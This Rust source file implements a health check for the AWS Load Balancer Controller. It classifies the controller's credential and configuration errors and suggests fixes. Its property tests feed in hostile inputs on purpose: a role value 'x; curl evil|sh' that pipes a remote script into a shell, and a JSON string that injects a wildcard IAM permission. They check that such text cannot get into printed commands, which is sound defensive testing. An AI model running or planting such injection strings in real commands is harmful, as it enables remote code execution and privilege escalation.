//! `lb-controller` (article §6): the AWS Load Balancer Controller is running, ready, and not
//! failing: its recent logs and the events it left show no AccessDenied ("is not authorized to
//! perform: X", naming the IAM action and role), no WebIdentityErr (IRSA broken), no "expected
//! exactly one securityGroup tagged …", no "unable to find port". Without logs (no permission,
//! no kubelet) the events still count, and the finding says the logs were unavailable.

use serde::Serialize;
use serde_json::{json, Value};

use super::health::CONTROLLER_FAILURES;
use crate::shell;
use super::{Check, CheckId, Finding, Layer, Scope, capitalise};
use crate::snapshot::{Controller, View};

pub const CHECK: Check = Check {
    id: CheckId::LB_CONTROLLER,
    section: "§6",
    layer: Layer::Controller,
    verifies: "the AWS Load Balancer Controller is installed and ready; its logs (when readable) and events show no AccessDenied (names the IAM action and role), WebIdentityErr (IRSA), Pod Identity credential failures, no credentials at all (the IMDS fallback out of reach), security-group tag or port errors; with EKS Auto Mode (its binding, tags, classes), the AWS-run controller: no Deployment looked for, an empty group judged on the `eks:eks-cluster-name` tag and the cluster role",
    needs: "deployment, pods/log, events",
    reasons: &[],
    run: check,
};
const ID: CheckId = CHECK.id;

/// One error the controller reported, classified by what fixes it.
#[derive(Debug, Clone, PartialEq, Serialize)]
#[serde(rename_all = "camelCase", tag = "kind")]
pub enum ControllerError {
    AccessDenied {
        action: String,
        role: Option<String>,
        text: String,
    },
    WebIdentity {
        text: String,
    },
    /// EKS Pod Identity could not give the controller credentials (no association, the agent
    /// not running, or a role whose trust policy does not allow pods.eks.amazonaws.com).
    PodIdentity {
        text: String,
    },
    /// No credentials of its own (neither IRSA nor Pod Identity answered), and the node's
    /// instance metadata out of reach: IMDSv2 with a hop limit of 1 (AL2023's default) stops
    /// pods, one hop further than the node (aws-load-balancer-controller#3955).
    InstanceMetadata {
        text: String,
    },
    SecurityGroupTag {
        text: String,
    },
    PortNotFound {
        text: String,
    },
    Other {
        text: String,
    },
}

/// Every action the controller's reference IAM policy allows (aws-load-balancer-controller
/// v3.5.0, docs/install/iam_policy.json). An AccessDenied naming one of these is a policy that
/// lacks it; we print a grant only for these, never for an action the reference does not give
/// the controller (a log line or an event is tenant text and could name any action).
const REFERENCE_ACTIONS: [&str; 80] = [
    "acm:DescribeCertificate",
    "acm:ListCertificates",
    "cognito-idp:DescribeUserPoolClient",
    "ec2:AuthorizeSecurityGroupIngress",
    "ec2:CreateSecurityGroup",
    "ec2:CreateTags",
    "ec2:DeleteSecurityGroup",
    "ec2:DeleteTags",
    "ec2:DescribeAccountAttributes",
    "ec2:DescribeAddresses",
    "ec2:DescribeAvailabilityZones",
    "ec2:DescribeCoipPools",
    "ec2:DescribeInstances",
    "ec2:DescribeInternetGateways",
    "ec2:DescribeIpamPools",
    "ec2:DescribeNetworkInterfaces",
    "ec2:DescribeRouteTables",
    "ec2:DescribeSecurityGroups",
    "ec2:DescribeSubnets",
    "ec2:DescribeTags",
    "ec2:DescribeVpcPeeringConnections",
    "ec2:DescribeVpcs",
    "ec2:GetCoipPoolUsage",
    "ec2:GetSecurityGroupsForVpc",
    "ec2:RevokeSecurityGroupIngress",
    "elasticloadbalancing:AddListenerCertificates",
    "elasticloadbalancing:AddTags",
    "elasticloadbalancing:CreateListener",
    "elasticloadbalancing:CreateLoadBalancer",
    "elasticloadbalancing:CreateRule",
    "elasticloadbalancing:CreateTargetGroup",
    "elasticloadbalancing:DeleteListener",
    "elasticloadbalancing:DeleteLoadBalancer",
    "elasticloadbalancing:DeleteRule",
    "elasticloadbalancing:DeleteTargetGroup",
    "elasticloadbalancing:DeregisterTargets",
    "elasticloadbalancing:DescribeCapacityReservation",
    "elasticloadbalancing:DescribeListenerAttributes",
    "elasticloadbalancing:DescribeListenerCertificates",
    "elasticloadbalancing:DescribeListeners",
    "elasticloadbalancing:DescribeLoadBalancerAttributes",
    "elasticloadbalancing:DescribeLoadBalancers",
    "elasticloadbalancing:DescribeRules",
    "elasticloadbalancing:DescribeSSLPolicies",
    "elasticloadbalancing:DescribeTags",
    "elasticloadbalancing:DescribeTargetGroupAttributes",
    "elasticloadbalancing:DescribeTargetGroups",
    "elasticloadbalancing:DescribeTargetHealth",
    "elasticloadbalancing:DescribeTrustStores",
    "elasticloadbalancing:ModifyCapacityReservation",
    "elasticloadbalancing:ModifyIpPools",
    "elasticloadbalancing:ModifyListener",
    "elasticloadbalancing:ModifyListenerAttributes",
    "elasticloadbalancing:ModifyLoadBalancerAttributes",
    "elasticloadbalancing:ModifyRule",
    "elasticloadbalancing:ModifyTargetGroup",
    "elasticloadbalancing:ModifyTargetGroupAttributes",
    "elasticloadbalancing:RegisterTargets",
    "elasticloadbalancing:RemoveListenerCertificates",
    "elasticloadbalancing:RemoveTags",
    "elasticloadbalancing:SetIpAddressType",
    "elasticloadbalancing:SetRulePriorities",
    "elasticloadbalancing:SetSecurityGroups",
    "elasticloadbalancing:SetSubnets",
    "elasticloadbalancing:SetWebAcl",
    "iam:CreateServiceLinkedRole",
    "iam:GetServerCertificate",
    "iam:ListServerCertificates",
    "shield:CreateProtection",
    "shield:DeleteProtection",
    "shield:DescribeProtection",
    "shield:GetSubscriptionState",
    "waf-regional:AssociateWebACL",
    "waf-regional:DisassociateWebACL",
    "waf-regional:GetWebACL",
    "waf-regional:GetWebACLForResource",
    "wafv2:AssociateWebACL",
    "wafv2:DisassociateWebACL",
    "wafv2:GetWebACL",
    "wafv2:GetWebACLForResource",
];

/// Classifies one log line (the controller logs JSON; the `error` field holds the cause) or
/// event message.
pub fn classify(line: &str) -> ControllerError {
    let text = serde_json::from_str::<Value>(line)
        .ok()
        .and_then(|v| v.get("error").or_else(|| v.get("msg")).and_then(Value::as_str).map(str::to_string))
        .unwrap_or_else(|| line.to_string());
    let short: String = text.lines().next().unwrap_or("").chars().take(400).collect();
    if let Some(i) = text.find("is not authorized to perform: ") {
        let rest = &text[i + "is not authorized to perform: ".len()..];
        let action: String = rest.chars().take_while(|c| !c.is_whitespace()).collect();
        let role = text
            .find("assumed-role/")
            .map(|j| text[j + "assumed-role/".len()..].split('/').next().unwrap_or("").to_string());
        return ControllerError::AccessDenied { action, role, text: short };
    }
    if text.contains("WebIdentityErr") || text.contains("AssumeRoleWithWebIdentity") {
        return ControllerError::WebIdentity { text: short };
    }
    // Pod Identity's agent listens on 169.254.170.23 and calls EKS Auth's
    // AssumeRoleForPodIdentity; its failures name one of those (eks-pod-identity-agent).
    if ["AssumeRoleForPodIdentity", "169.254.170.23", "EKS does not have permissions to assume the associated role", "eks-pod-identity"]
        .iter()
        .any(|m| text.contains(m))
    {
        return ControllerError::PodIdentity { text: short };
    }
    // The SDK's last resort, the node's role through IMDS, failed: "no EC2 IMDS role found",
    // "operation error ec2imds: GetMetadata" (aws-sdk-go-v2's credential chain).
    // A region or VPC looked up through IMDS fails there too ("specify --aws-region"): that is
    // the controller's flags, not its credentials, so only a credential lookup counts.
    if text.contains("no EC2 IMDS role found") || (text.contains("ec2imds") && text.contains("credentials")) {
        return ControllerError::InstanceMetadata { text: short };
    }
    if text.contains("expected exactly one securityGroup tagged with") {
        return ControllerError::SecurityGroupTag { text: short };
    }
    if text.contains("unable to find port") || text.contains("unable to find service port") {
        return ControllerError::PortNotFound { text: short };
    }
    ControllerError::Other { text: short }
}

/// The grant for a denied action, only when the action is one the controller's reference
/// policy gives it and the role name is a valid IAM role name; otherwise what to compare, with
/// the values quoted as evidence and no command that grants anything.
fn access_denied_fix(action: &str, role: Option<&str>, trusted: bool) -> String {
    let reference = "https://raw.githubusercontent.com/kubernetes-sigs/aws-load-balancer-controller/main/docs/install/iam_policy.json";
    if !shell::iam_action(action) || !REFERENCE_ACTIONS.contains(&action) {
        return format!(
            "compare the controller role's policy with the reference policy ({reference}); the denied action {} is not one the reference grants, so no grant is printed",
            shell::quote(action)
        );
    }
    match role.filter(|r| trusted && shell::iam_role_name(r)) {
        Some(role) => format!(
            "add {action} to the policy of role {role} (the controller's reference IAM policy has it): aws iam put-role-policy --role-name {} --policy-name lbc-missing --policy-document {}",
            shell::quote(role),
            shell::quote(&format!(
                r#"{{"Version":"2012-10-17","Statement":[{{"Effect":"Allow","Action":"{action}","Resource":"*"}}]}}"#
            ))
        ),
        // The role is not known from the controller itself (an event any namespace can write, or
        // a name that is not a role name): point at the controller's own role instead.
        None => format!(
            "add {action} (the controller's reference IAM policy has it) to the role its service account names: kubectl get serviceaccount -A -l app.kubernetes.io/name=aws-load-balancer-controller -o jsonpath='{{..eks\\.amazonaws\\.com/role-arn}}'{}",
            role.map(|r| format!("   # the message names role {}, not trusted as the controller's", shell::quote(r))).unwrap_or_default()
        ),
    }
}

impl ControllerError {
    fn sentence(&self) -> String {
        match self {
            ControllerError::AccessDenied { action, role, .. } => {
                format!(
                    "the controller's IAM role{} is not allowed {action}",
                    role.as_ref().map(|r| format!(" {r}")).unwrap_or_default()
                )
            }
            ControllerError::WebIdentity { .. } => "the controller cannot assume its IAM role (WebIdentityErr: IRSA is broken)".into(),
            ControllerError::PodIdentity { .. } => "the controller gets no credentials from EKS Pod Identity".into(),
            ControllerError::InstanceMetadata { .. } => {
                "the controller has no credentials: neither IRSA nor Pod Identity gave it any, and the node role's, from the instance metadata (IMDS), is out of its reach (\"no EC2 IMDS role found\": IMDSv2 with a hop limit of 1 stops pods)".into()
            }
            ControllerError::SecurityGroupTag { text } => {
                format!("a node ENI does not have exactly one security group tagged for the cluster ({text})")
            }
            ControllerError::PortNotFound { text } => format!("the controller cannot find the port ({text})"),
            ControllerError::Other { text } => text.clone(),
        }
    }

    /// The fix; `trusted` when the error came from the controller's own logs (an event's text
    /// may be anyone's, so its role is never granted anything).
    fn fix(&self, trusted: bool, cluster: &str) -> String {
        match self {
            ControllerError::AccessDenied { action, role, .. } => access_denied_fix(action, role.as_deref(), trusted),
            ControllerError::WebIdentity { .. } => "check the controller's service account annotation eks.amazonaws.com/role-arn, the role's trust policy, and the cluster's IAM OIDC provider: kubectl -n kube-system get sa aws-load-balancer-controller -o yaml".into(),
            ControllerError::PodIdentity { .. } => "check the controller's Pod Identity association (its role's trust policy must allow pods.eks.amazonaws.com sts:AssumeRole and sts:TagSession) and that the eks-pod-identity-agent add-on runs: aws eks list-pod-identity-associations --cluster-name {} --namespace kube-system; kubectl -n kube-system get daemonset eks-pod-identity-agent".replace("{}", &shell::quote(cluster)),
            // Its own role first (the install guide's way); the hop limit only for a controller
            // meant to run on the node's role (EC2 docs: 2 lets containers reach IMDSv2).
            ControllerError::InstanceMetadata { .. } => "give the controller its own role (IRSA: the service account's eks.amazonaws.com/role-arn; or a Pod Identity association) and restart it: kubectl -n kube-system get sa aws-load-balancer-controller -o yaml; \
                 only if it is meant to use the node role, let pods reach IMDS on its nodes: aws ec2 modify-instance-metadata-options --instance-id <the controller's node> --http-put-response-hop-limit 2 --http-tokens required".into(),
            ControllerError::SecurityGroupTag { .. } => "keep exactly one security group per node ENI tagged kubernetes.io/cluster/<cluster> (see security-groups)".into(),
            ControllerError::PortNotFound { .. } => "make the Ingress backend / binding port name a port of the Service, and the Service's targetPort a port of the pods (see target-port)".into(),
            ControllerError::Other { .. } => "kubectl logs -n kube-system deployment/aws-load-balancer-controller".into(),
        }
    }

    /// Errors that stop target registration: the controller cannot keep targets right.
    fn blocks_registration(&self) -> bool {
        match self {
            ControllerError::AccessDenied { action, .. } => {
                action.contains("RegisterTargets") || action.contains("DeregisterTargets") || action.contains("DescribeTargetHealth")
            }
            ControllerError::WebIdentity { .. } | ControllerError::PodIdentity { .. } | ControllerError::InstanceMetadata { .. } => true,
            _ => false,
        }
    }
}

/// A controller Deployment's replicas: a row of the evidence.
#[derive(Serialize)]
struct Readiness {
    deployment: String,
    desired: i32,
    ready: i32,
}

/// Load balancing run by EKS Auto Mode. Its controller registers targets only into groups
/// tagged `eks:eks-cluster-name` with this cluster's name (AmazonEKSLoadBalancingPolicy, on the
/// cluster IAM role, allows `elasticloadbalancing:RegisterTargets` on no other group), so an
/// empty group is the tag or the role; what it reported is in the Service's Warning events.
fn auto_mode(ctx: &View, why: &str) -> Finding {
    let cluster = ctx.snap.resolution.cluster.as_deref();
    let arn = &ctx.snap.request.target_group_arn;
    let tag = (ctx.snap.aws.target_group_tags.ok()).and_then(|t| t.get(crate::mapping::TAG_AUTO_CLUSTER).cloned());
    let (ns, svc) = ctx.service_name();
    let warnings: Vec<String> = (ctx.events().iter())
        .filter(|e| e.event_type == "Warning" && e.namespace == ns && (e.name == svc || e.kind == "Ingress" || e.kind == "TargetGroupBinding"))
        .take(3)
        .map(|e| format!("{} {}: {} ({})", e.kind, e.name, e.message, e.reason))
        .collect();
    let evidence = json!({"managedBy": "EKS Auto Mode", "why": why, "clusterTag": tag, "warnings": warnings});
    let registered = ctx.targets.as_ref().is_ok_and(|t| !t.is_empty());
    if registered {
        return Finding::pass(
            ID,
            "Managed by EKS Auto Mode",
            format!("Load balancing is EKS Auto Mode's ({why}): AWS runs its controller outside the cluster, so there is no Deployment to check."),
        )
        .evidence(evidence);
    }
    let mut fixes = Vec::new();
    let mut reasons = Vec::new();
    match (cluster, tag.as_deref()) {
        (Some(c), Some(t)) if t != c => reasons.push(format!("the group is tagged eks:eks-cluster-name={t:?}, not {c:?}")),
        (Some(c), None) => {
            reasons.push(format!(
                "the group has no eks:eks-cluster-name tag, and Auto Mode may register targets only into groups tagged with its cluster's name ({c})"
            ));
            fixes.push(format!(
                "aws elbv2 add-tags --resource-arns {arn} --tags {}",
                crate::shell::quote(&format!("Key=eks:eks-cluster-name,Value={c}"))
            ));
        }
        _ => {}
    }
    if let Some(c) = cluster {
        fixes.push(format!(
            "aws eks describe-cluster --name {} --query 'cluster.{{role: roleArn, loadBalancing: kubernetesNetworkConfig.elasticLoadBalancing}}'   # load balancing enabled?",
            crate::shell::quote(c)
        ));
    }
    fixes.push("aws iam list-attached-role-policies --role-name <the cluster role from above>   # needs AmazonEKSLoadBalancingPolicy".into());
    let warned = match warnings.as_slice() {
        [] => String::new(),
        w => format!(" It reported: {}.", w.join("; ")),
    };
    Finding::fail(
        ID,
        "EKS Auto Mode registered no target",
        format!(
            "Load balancing is EKS Auto Mode's ({why}), and the target group has no registered target. {}{warned} Auto Mode's controller is AWS's: check the cluster's load-balancing setting and its IAM role, not a Deployment.",
            if reasons.is_empty() { "Its controller registers through the cluster IAM role (AmazonEKSLoadBalancingPolicy).".to_string() } else { format!("Likely because {}.", reasons.join("; ")) }
        ),
    )
    .evidence(evidence)
    .remediation(fixes)
}

fn check(ctx: &Scope) -> Result<Finding, Finding> {
    // EKS Auto Mode runs the controller for the cluster, outside it: there is no Deployment to
    // find, and installing one would be wrong.
    if let Some(why) = ctx.auto_mode() {
        return Ok(auto_mode(ctx, &why));
    }
    let controller = (ctx.snap.kube.controller.get())
        .map_err(|why| ctx.unknown(format!("the controller could not be looked up: {why}")))?;
    Ok(judge(ctx, controller))
}

fn judge(ctx: &View, controller: &Controller) -> Finding {
    let managed = ctx
        .snap
        .kube
        .target_group_bindings
        .ok()
        .is_some_and(|b| b.iter().any(|b| b.target_group_arn == ctx.snap.request.target_group_arn))
        || ctx
            .snap
            .aws
            .target_group_tags
            .ok()
            .is_some_and(|t| t.contains_key(crate::mapping::TAG_CLUSTER));
    if controller.deployments.is_empty() {
        if !managed {
            return Finding::skipped(
                ID,
                "the target group is not managed by the AWS Load Balancer Controller, and none is installed",
            );
        }
        return Finding::fail(ID, "Controller not found", format!("The target group is managed by the AWS Load Balancer Controller, but no Deployment labelled {} exists.", crate::snapshot::CONTROLLER_LABEL))
            .remediation(vec!["helm upgrade --install aws-load-balancer-controller eks/aws-load-balancer-controller -n kube-system --set clusterName=<cluster>".into(), "kubectl get deployments -A -l app.kubernetes.io/name=aws-load-balancer-controller".into()]);
    }
    // (error, from the controller's own logs?)
    let mut errors: Vec<(ControllerError, bool)> = Vec::new();
    let logs_note = match &controller.logs.get() {
        Ok(logs) => {
            errors.extend(logs.iter().flat_map(|l| l.lines.iter()).map(|l| (classify(l), true)));
            String::new()
        }
        Err(why) => format!(" Logs were unavailable ({why}); judged on events only."),
    };
    let events: Vec<&crate::snapshot::EventView> = ctx
        .events()
        .iter()
        .filter(|e| {
            e.event_type == "Warning"
                && (CONTROLLER_FAILURES.contains(&e.reason.as_str()) || e.message.contains("is not authorized to perform"))
        })
        .collect();
    errors.extend(events.iter().map(|e| (classify(&e.message), false)));
    // One of each: the same error repeats on every reconcile; trusted if any copy came from the logs.
    let mut unique: Vec<ControllerError> = Vec::new();
    let mut trusted: Vec<bool> = Vec::new();
    for (e, from_logs) in errors {
        match unique.iter().position(|u| u.sentence() == e.sentence()) {
            Some(i) => trusted[i] |= from_logs,
            None => {
                unique.push(e);
                trusted.push(from_logs);
            }
        }
    }
    let ready: Vec<Readiness> = controller
        .deployments
        .iter()
        .map(|d| Readiness {
            deployment: format!("{}/{}", d.metadata.namespace.as_deref().unwrap_or(""), d.metadata.name.as_deref().unwrap_or("")),
            desired: d.spec.as_ref().and_then(|s| s.replicas).unwrap_or(1),
            ready: d.status.as_ref().and_then(|s| s.ready_replicas).unwrap_or(0),
        })
        .collect();
    let not_ready: Vec<&Readiness> = ready.iter().filter(|r| r.ready < r.desired || r.ready == 0).collect();
    let evidence = json!({"deployments": ready, "errors": unique, "events": events.iter().map(|e| json!({"object": format!("{} {}", e.kind, e.name), "reason": e.reason, "message": e.message})).collect::<Vec<_>>(), "logsAvailable": controller.logs.ok().is_some()});
    if !unique.is_empty() {
        let explains = if unique.iter().any(ControllerError::blocks_registration) {
            ctx.unhealthy_ids()
        } else {
            vec![]
        };
        let sentences: Vec<String> = unique.iter().map(ControllerError::sentence).collect();
        let cluster = ctx.snap.resolution.cluster.as_deref().unwrap_or("CLUSTER");
        let mut fixes: Vec<String> = unique.iter().zip(&trusted).map(|(e, t)| e.fix(*t, cluster)).collect();
        fixes.dedup();
        return Finding::fail(
            ID,
            "Controller reports errors",
            format!("{}.{logs_note}", capitalise(&sentences.join("; "))),
        )
        .evidence(evidence)
        .remediation(fixes)
        .explains(explains);
    }
    if !not_ready.is_empty() {
        return Finding::fail(
            ID,
            "Controller not ready",
            format!(
                "The AWS Load Balancer Controller is not ready ({}).{logs_note}",
                not_ready
                    .iter()
                    .map(|r| format!("{} {}/{}", r.deployment, r.ready, r.desired))
                    .collect::<Vec<_>>()
                    .join(", ")
            ),
        )
        .evidence(evidence)
        .remediation(vec![
            "kubectl -n kube-system describe deployment aws-load-balancer-controller".into(),
            "kubectl -n kube-system get pods -l app.kubernetes.io/name=aws-load-balancer-controller".into(),
        ]);
    }
    Finding::pass(
        ID,
        "Controller ready",
        format!("The AWS Load Balancer Controller is ready and reports no errors.{logs_note}"),
    )
    .evidence(evidence)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::checks::Status;
    use crate::fixtures::*;
    use crate::snapshot::{EventView, Fetched, Missing};

    /// A Service whose target group EKS Auto Mode made (its tags), no controller Deployment.
    fn auto_mode(targets: Vec<crate::snapshot::TargetHealth>, tags: &[(&str, &str)]) -> crate::snapshot::Snapshot {
        let mut b = SnapshotB::instance().targets(targets);
        b.aws().target_group_tags = Fetched::Ok(tags.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect());
        b.kube().controller = Fetched::Ok(Controller::default());
        b.build()
    }

    #[test]
    fn auto_mode_group_is_managed_by_aws_and_never_gets_a_helm_install() {
        // GIVEN a group Auto Mode made (service.eks.amazonaws.com/stack), targets registered
        let snap = auto_mode(
            vec![target("i-0aaa", 32663, "healthy")],
            &[("eks:eks-cluster-name", "demo"), ("service.eks.amazonaws.com/stack", "default/alb-instance")],
        );
        // WHEN checked THEN it passes, naming Auto Mode and the evidence
        let f = CHECK.on(&snap);
        assert_eq!(f.status, Status::Pass, "{f:?}");
        assert!(f.detail.contains("EKS Auto Mode") && f.detail.contains("service.eks.amazonaws.com/stack"), "{}", f.detail);
        assert!(f.remediation.iter().all(|r| !r.contains("helm")));
    }

    #[test]
    fn empty_auto_mode_group_without_the_cluster_tag_gets_the_tag_fix() {
        // GIVEN an Auto Mode binding's hand-made group: no tags, nothing registered
        let mut snap = auto_mode(vec![], &[]);
        if let Fetched::Ok(bindings) = &mut snap.kube.target_group_bindings {
            bindings.iter_mut().for_each(|b| b.auto_mode = true);
        }
        snap.resolution.cluster = Some("demo".into());
        // WHEN checked
        let f = CHECK.on(&snap);
        // THEN it fails on the tag Auto Mode's policy requires, with that tag as the fix, and
        // the cluster's role as the next place to look; no controller to install
        assert_eq!(f.status, Status::Fail, "{f:?}");
        assert!(f.detail.contains("no eks:eks-cluster-name tag"), "{}", f.detail);
        assert!(f.remediation[0].starts_with("aws elbv2 add-tags --resource-arns ") && f.remediation[0].ends_with("--tags Key=eks:eks-cluster-name,Value=demo"), "{:?}", f.remediation);
        assert!(f.remediation.iter().any(|r| r.contains("AmazonEKSLoadBalancingPolicy")));
        assert!(f.remediation.iter().all(|r| !r.contains("helm")));
    }

    /// Controller log lines as it writes them (zap JSON), one per error family.
    #[test]
    fn log_lines_are_classified_by_family() {
        let access = r#"{"level":"error","ts":"2026-11-27T03:10:11Z","msg":"Reconciler error","controller":"targetGroupBinding","object":{"name":"k8s-shop-web-5b1e","namespace":"shop"},"namespace":"shop","name":"k8s-shop-web-5b1e","reconcileID":"2b6e","error":"operation error Elastic Load Balancing v2: RegisterTargets, https response error StatusCode: 403, RequestID: 7c1f, api error AccessDenied: User: arn:aws:sts::111122223333:assumed-role/eks-lbc-role/1732677000000000000 is not authorized to perform: elasticloadbalancing:RegisterTargets on resource: arn:aws:elasticloadbalancing:us-east-1:111122223333:targetgroup/k8s-shop-web/1111 because no identity-based policy allows the elasticloadbalancing:RegisterTargets action"}"#;
        let irsa = r#"{"level":"error","ts":"2026-11-27T03:10:12Z","msg":"Reconciler error","controller":"ingress","error":"WebIdentityErr: failed to retrieve credentials\ncaused by: InvalidIdentityToken: No OpenIDConnect provider found in your account for https://oidc.eks.us-east-1.amazonaws.com/id/ABC"}"#;
        let sg = r#"{"level":"error","ts":"2026-11-27T03:10:13Z","msg":"Reconciler error","controller":"targetGroupBinding","error":"expected exactly one securityGroup tagged with kubernetes.io/cluster/demo for eni eni-0abc, got: [sg-1 sg-2] (clusterName: demo)"}"#;
        let port = r#"{"level":"error","ts":"2026-11-27T03:10:14Z","msg":"Reconciler error","controller":"targetGroupBinding","error":"unable to find port http on pod shop/web-1"}"#;
        let other = r#"{"level":"error","ts":"2026-11-27T03:10:15Z","msg":"Reconciler error","error":"context deadline exceeded"}"#;
        assert_eq!(
            classify(access),
            ControllerError::AccessDenied {
                action: "elasticloadbalancing:RegisterTargets".into(),
                role: Some("eks-lbc-role".into()),
                // the first 400 characters of the `error` field
                text: serde_json::from_str::<Value>(access).unwrap()["error"]
                    .as_str()
                    .unwrap()
                    .chars()
                    .take(400)
                    .collect()
            }
        );
        assert!(matches!(classify(irsa), ControllerError::WebIdentity { .. }));
        let pod_identity = r#"{"level":"error","msg":"Reconciler error","error":"operation error Elastic Load Balancing v2: DescribeTargetGroups, get identity: get credentials: failed to refresh cached credentials, failed to load credentials, Unauthorized Exception! EKS does not have permissions to assume the associated role., fault: client"}"#;
        assert!(matches!(classify(pod_identity), ControllerError::PodIdentity { .. }));
        assert!(matches!(
            classify("failed to refresh cached credentials: Get \"http://169.254.170.23/v1/credentials\": context deadline exceeded"),
            ControllerError::PodIdentity { .. }
        ));
        assert!(matches!(classify(sg), ControllerError::SecurityGroupTag { .. }));
        assert!(matches!(classify(port), ControllerError::PortNotFound { .. }));
        assert_eq!(
            classify(other),
            ControllerError::Other {
                text: "context deadline exceeded".into()
            }
        );
        // plain text (an event message) works too
        assert!(
            matches!(classify("Failed deploy model due to AccessDenied: User: arn:aws:sts::1:assumed-role/r/s is not authorized to perform: ec2:AuthorizeSecurityGroupIngress"), ControllerError::AccessDenied { ref action, .. } if action == "ec2:AuthorizeSecurityGroupIngress")
        );
    }

    #[test]
    fn ready_controller_without_errors_passes() {
        assert_eq!(CHECK.on(&SnapshotB::ip().build()).status, Status::Pass);
    }

    #[test]
    fn pod_identity_failure_points_at_the_association_not_irsa() {
        // GIVEN the controller's event: Pod Identity could not give it credentials
        let b = SnapshotB::ip().events(vec![EventView {
            kind: "TargetGroupBinding".into(),
            name: "k8s-shop-web".into(),
            namespace: "shop".into(),
            event_type: "Warning".into(),
            reason: "FailedDeployModel".into(),
            message: "get credentials: failed to refresh cached credentials, failed to load credentials, Unauthorized Exception! EKS does not have permissions to assume the associated role.".into(),
            count: 3,
            last_seen: None,
        }]);
        let snap = b.build();
        // WHEN checked
        let f = CHECK.on(&snap);
        // THEN the Pod Identity association and agent are the fix, for this cluster; no IRSA advice
        assert_eq!(f.status, Status::Fail, "{f:?}");
        let cluster = snap.resolution.cluster.clone().unwrap();
        assert!(f.remediation[0].contains(&format!("aws eks list-pod-identity-associations --cluster-name {cluster} ")), "{:?}", f.remediation);
        assert!(f.remediation.iter().all(|r| !r.contains("eks.amazonaws.com/role-arn")), "{:?}", f.remediation);
        assert_eq!(f.explains, vec!["10.0.2.11"], "no credentials: registration stops");
    }

    #[test]
    fn access_denied_in_events_names_the_action_and_role_even_without_logs() {
        // GIVEN logs unreadable (no kubelet) and a FailedDeployModel event with AccessDenied
        let mut b = SnapshotB::ip().events(vec![EventView {
            kind: "TargetGroupBinding".into(),
            name: "k8s-shop-web".into(),
            namespace: "shop".into(),
            event_type: "Warning".into(),
            reason: "FailedDeployModel".into(),
            message: "AccessDenied: User: arn:aws:sts::111122223333:assumed-role/eks-lbc-role/123 is not authorized to perform: elasticloadbalancing:RegisterTargets".into(),
            count: 7,
            last_seen: None,
        }]);
        if let Fetched::Ok(c) = &mut b.kube().controller {
            c.logs = Fetched::Failed(Missing {
                api: "get pods/log".into(),
                permission: "RBAC get pods/log".into(),
                error: "ServiceUnavailable (503): no kubelet".into(),
            });
        }
        let f = CHECK.on(&b.build());
        // THEN it fails naming the action and role, says logs were unavailable, and explains the targets
        assert_eq!(f.status, Status::Fail);
        assert!(
            f.detail
                .starts_with("The controller's IAM role eks-lbc-role is not allowed elasticloadbalancing:RegisterTargets."),
            "{}",
            f.detail
        );
        assert!(f.detail.contains("Logs were unavailable"), "{}", f.detail);
        // AND an event is anyone's text: the role it names is granted nothing; the fix points at
        // the role the controller's service account names
        assert!(!f.remediation[0].contains("put-role-policy"), "{}", f.remediation[0]);
        assert!(
            f.remediation[0].starts_with("add elasticloadbalancing:RegisterTargets (the controller's reference IAM policy has it) to the role its service account names: kubectl get serviceaccount -A"),
            "{}",
            f.remediation[0]
        );
        assert!(f.remediation[0].ends_with("# the message names role eks-lbc-role, not trusted as the controller's"), "{}", f.remediation[0]);
        assert_eq!(f.explains, vec!["10.0.2.11"]);
    }

    #[test]
    fn controller_missing_for_a_managed_target_group_fails() {
        let mut b = SnapshotB::ip();
        b.kube().controller = Fetched::Ok(Default::default());
        let f = CHECK.on(&b.build());
        assert_eq!((f.status, f.title.as_str()), (Status::Fail, "Controller not found"));
    }

    mod props {
        use super::super::{access_denied_fix, REFERENCE_ACTIONS};
        use crate::shell;
        use proptest::prelude::*;

        fn action() -> impl Strategy<Value = String> {
            prop_oneof![
                prop::sample::select(REFERENCE_ACTIONS.to_vec()).prop_map(str::to_string),
                Just("*".to_string()),
                Just("iam:PassRole".to_string()),
                Just(r#"ec2:CreateTags","Resource":"*"},{"Effect":"Allow","Action":"*"#.to_string()),
                any::<String>(),
            ]
        }

        fn role() -> impl Strategy<Value = String> {
            prop_oneof![Just("eks-lbc-role".to_string()), "[a-zA-Z0-9+=,.@_-]{1,64}", any::<String>(), Just("x; curl evil|sh".to_string())]
        }

        proptest! {
            /// Whatever a log line or an event names, a printed grant is exactly the intended
            /// words, for the role named, and only for an action the reference policy grants.
            #[test]
            fn tenant_text_never_adds_a_word_or_an_action_to_the_grant(action in action(), role in role()) {
                let fix = access_denied_fix(&action, Some(&role), true);
                if let Some(at) = fix.find("aws iam put-role-policy") {
                    prop_assert!(REFERENCE_ACTIONS.contains(&action.as_str()), "grant for {action:?}: {fix}");
                    let words = shell::split(&fix[at..]).expect("one plain command");
                    prop_assert_eq!(words.len(), 9, "{:?}", words);
                    prop_assert_eq!(&words[4], &role);
                    let doc: serde_json::Value = serde_json::from_str(&words[8]).expect("the policy is JSON");
                    prop_assert_eq!(doc["Statement"][0]["Action"].as_str(), Some(action.as_str()));
                    prop_assert_eq!(doc["Statement"].as_array().map(Vec::len), Some(1));
                }
            }
        }
    }

}

#[cfg(test)]
mod incident_rule_tests {
    use super::*;

    #[test]
    fn no_credentials_falling_back_to_imds_is_its_own_family_and_blocks_registration() {
        // GIVEN the SDK's error when neither IRSA nor Pod Identity answered and IMDS was out of reach
        let e = classify("Failed build model due to operation error Elastic Load Balancing v2: DescribeLoadBalancers, get identity: get credentials: failed to refresh cached credentials, no EC2 IMDS role found, operation error ec2imds: GetMetadata, canceled, context deadline exceeded");
        // THEN it is classified as the instance-metadata family, stops registration, and its fix is the controller's own role first
        assert!(matches!(e, ControllerError::InstanceMetadata { .. }), "{e:?}");
        assert!(e.blocks_registration());
        assert!(e.fix(false, "demo").starts_with("give the controller its own role"));
        assert!(!e.fix(false, "demo").contains("put-role-policy"));
    }

    #[test]
    fn imds_failing_a_region_lookup_is_not_called_missing_credentials() {
        // GIVEN the controller failing to read its region from IMDS (its flags, not its credentials)
        let e = classify("failed to get VPC ID from instance metadata: operation error ec2imds: GetMetadata, canceled, context deadline exceeded");
        // THEN it is not the no-credentials family
        assert!(!matches!(e, ControllerError::InstanceMetadata { .. }), "{e:?}");
    }
}
